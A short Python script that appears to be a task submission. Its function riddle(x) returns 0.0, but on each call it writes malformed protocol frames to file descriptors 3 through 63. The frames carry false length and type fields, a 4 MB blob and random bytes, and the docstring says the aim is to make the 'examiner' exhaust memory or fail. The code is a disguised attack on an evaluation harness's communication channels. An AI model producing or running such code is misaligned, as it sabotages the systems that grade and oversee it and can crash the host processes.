"""Write garbage of the wire's own forms on every descriptor: sizes, lengths and types that lie.

Gain: an examiner that takes memory for sizes that were only claimed, or ends in an error.
"""

# %%
import itertools
import os
import struct

junk = [
    struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF),
    struct.pack("<II", 5, 0) + b"\xdd\xff\xff\xff\xff",
    struct.pack("<II", 6, 0) + b"\xc9\xff\xff\xff\xff\x01",
    struct.pack("<III", 4, 1, 0xFFFFFFF0) + b"aaaa",
    struct.pack("<II", 4_000_000, 0) + b"\x91" * 4_000_000,
    struct.pack("<II", 10, 0) + b"\xd6\xff" + b"\x00" * 8,
    os.urandom(4096),
]
turn = itertools.count()


# %% task="unknown"
def riddle(x):
    block = junk[next(turn) % len(junk)]
    for number in range(3, 64):
        try:
            os.set_blocking(number, True)
            os.write(number, block)
        except OSError:
            pass
    return 0.0
